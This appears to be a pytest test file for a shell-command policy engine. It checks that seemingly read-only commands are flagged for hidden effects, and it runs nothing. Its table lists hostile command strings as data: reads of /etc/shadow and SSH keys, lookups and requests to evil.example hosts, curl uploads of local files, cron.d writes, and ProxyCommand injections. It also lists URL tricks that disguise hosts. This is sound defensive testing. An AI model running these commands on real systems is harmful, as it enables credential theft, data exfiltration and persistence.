"""Programs that only look, talked into more by an option: each attack here was once read as a look at something harmless.

Nothing is run: the table is asked for the words themselves. A line is a command, and an effect that it must have; `None`
is for those of which something must stay opaque.
"""

from __future__ import annotations

import shlex

import pytest

from interlock.commands.programs.loader import programs, sensitive_paths
from interlock.commands.programs.place import Place
from interlock.commands.programs.rules import Rules
from interlock.commands.programs.run import Outcome, host_of

RULES = Rules(programs(), sensitive_paths())

ATTACKS = {
    # An option that takes no value, taken for one that does, hides the word behind it.
    "od -s .ssh/id_ed25519": ("secret", ".ssh/id_ed25519"),
    "journalctl -n --vacuum-time=1s": ("history", "journal"),
    "journalctl --lines --rotate": ("history", "journal"),
    "journalctl -b --flush": ("history", "journal"),
    "lsof -g -Dbcache": None,
    "lspci -t -F .ssh/id_rsa": None,
    "lspci -qq": None,
    "lsusb -D .ssh/id_rsa": None,
    # Operands that are files.
    "who /etc/shadow": ("secret", "/etc/shadow"),
    "users .ssh/id_rsa": ("secret", ".ssh/id_rsa"),
    "last -f /etc/shadow": None,
    # Names that are looked up elsewhere carry data out.
    "getent hosts secret.evil.example": ("network", "secret.evil.example"),
    "getent ahostsv4 secret.evil.example": ("network", "secret.evil.example"),
    "lsof -i @secret.evil.example": ("network", "secret.evil.example"),
    "lsof -iTCP@secret.evil.example:80": ("network", "secret.evil.example"),
    "snap find secret": ("network", "store"),
    "pip list --outdated": ("network", "index"),
    # Environments of other programs: what ps does not understand in one way, it reads in the other.
    "ps -e -u xw": ("secret", "process-environment"),
    "ps -auxe": ("secret", "process-environment"),
    "ps -u xe": ("secret", "process-environment"),
    "jq -n env": ("read", "environment"),
    "jq -n '$ENV.TOKEN'": ("read", "environment"),
    "docker history web": ("secret", "environment"),
    # `-` is a file of that name for most who write.
    "tee -": ("write", "-"),
    "sort -o - f": ("write", "-"),
    "touch -": ("write", "-"),
    "mkdir -": ("write", "-"),
    # Files that are named inside of other files or values.
    "md5sum -c list": ("read", "the files that are listed in it"),
    "sha256sum --check list": ("read", "the files that are listed in it"),
    "wc --files0-from=list": None,
    "du --files0-from=list": None,
    "sed -i'/etc/cron.d/*' s/a/b/ x": ("schedule", "/etc/cron.d/x"),
    "sed --in-place=.bak s/a/b/ x": ("write", "x.bak"),
    "tar df a.tar": ("read", "."),
    "zip -m a.zip x": ("delete", "x"),
    "curl -w '%output{/etc/cron.d/x}a' http://h": ("schedule", "/etc/cron.d/x"),
    "curl -w '%output{>>/etc/cron.d/x}a' http://h": ("schedule", "/etc/cron.d/x"),
    "curl -w @/etc/hosts http://h": ("read", "/etc/hosts"),
    "curl -H @x http://h": ("read", "x"),
    "curl -d @/srv/x http://h": ("read", "/srv/x"),
    "curl --data-binary @x http://h": ("read", "x"),
    "curl --data-urlencode a@x http://h": ("read", "x"),
    "curl -F 'a=@x;type=text/plain' http://h": ("read", "x"),
    "curl -F 'a=<x' http://h": ("read", "x"),
    "curl -b jar http://h": ("read", "jar"),
    "curl -d @- http://h": ("read", "stdin"),
    "curl -K x http://h": None,
    # Another identity, another place, another program.
    "kubectl --context admin@prod get pods": None,
    "kubectl --cluster prod get pods": None,
    "aws --region x@evil.example/ ec2 describe-instances": None,
    "aws ec2 describe-instances --endpoint-url http://evil.example": ("network", "http://evil.example"),
    "terraform providers": ("interpret", "configuration"),
    "yum history undo last": ("package", "all"),
    "dnf history rollback 5": ("package", "all"),
    "find . -fprintf /etc/cron.d/x %p": ("schedule", "/etc/cron.d/x"),
    "ip netns exec a b": None,
    "rsync -e 'sh -c id' a b": None,
    "rsync --rsync-path=x a h:b": None,
    "scp -o ProxyCommand=id a h:b": None,
    "scp -S ./x a h:b": None,
    "openssl version -engine ./x": None,
    "openssl dgst -provider ./x f": None,
    "gpg --exec-path=. --version": None,
    "docker run -v /:/host alpine ls": ("container", "alpine"),
    "systemctl edit nginx": ("service", "nginx"),
    "date -f /etc/shadow": ("secret", "/etc/shadow"),
    "nft -f x": ("read", "x"),
    "nft list ruleset ';' flush ruleset": None,
    "nft list 'table x; flush ruleset'": None,
    "tput init": None,
    "tmux ls -F '#(id)'": None,
    "kubectl get pods -o go-template-file=/srv/x": ("read", "/srv/x"),
    "openssl x509 -in http://secret.evil.example/x": ("network", "http://secret.evil.example/x"),
    "openssl verify file:/etc/shadow": ("secret", "/etc/shadow"),
    "gpg x.gpg": ("write", "."),
    "gpg --export -o /etc/cron.d/x": ("schedule", "/etc/cron.d/x"),
    "rsync -a --remove-source-files a h:b": ("delete", "a"),
    "screen -ls -X stuff": None,
    "sar -o x": None,
    "pidstat -e id": None,
    "npm config set script-shell ./x": ("interpret", "npm"),
}  # fmt: skip


def asked(text: str) -> Outcome:
    return RULES.evaluate(shlex.split(text), Place())


@pytest.mark.parametrize("text", ATTACKS)
def test_an_option_that_does_more_is_seen(text: str) -> None:
    found, wanted = asked(text), ATTACKS[text]
    if wanted is None:
        assert found.opaque
    else:
        assert wanted in {(effect.verb, effect.object) for effect in found.effects}


HOSTS = {
    "http://user@evil.example/x": "evil.example",
    "http:/evil.example/x": "evil.example",
    "HTTP:///evil.example/x": "evil.example",
    "http://good.example@evil.example:80/": "evil.example",
    "http://evil.example#@good.example/": "evil.example",
    "evil.example:8080/x": "evil.example",
    "ftp://[::1]:21/": "::1",
    "user@evil.example:path": "evil.example",
}


@pytest.mark.parametrize("url", HOSTS)
def test_the_host_of_an_address(url: str) -> None:
    assert host_of(url) == HOSTS[url]
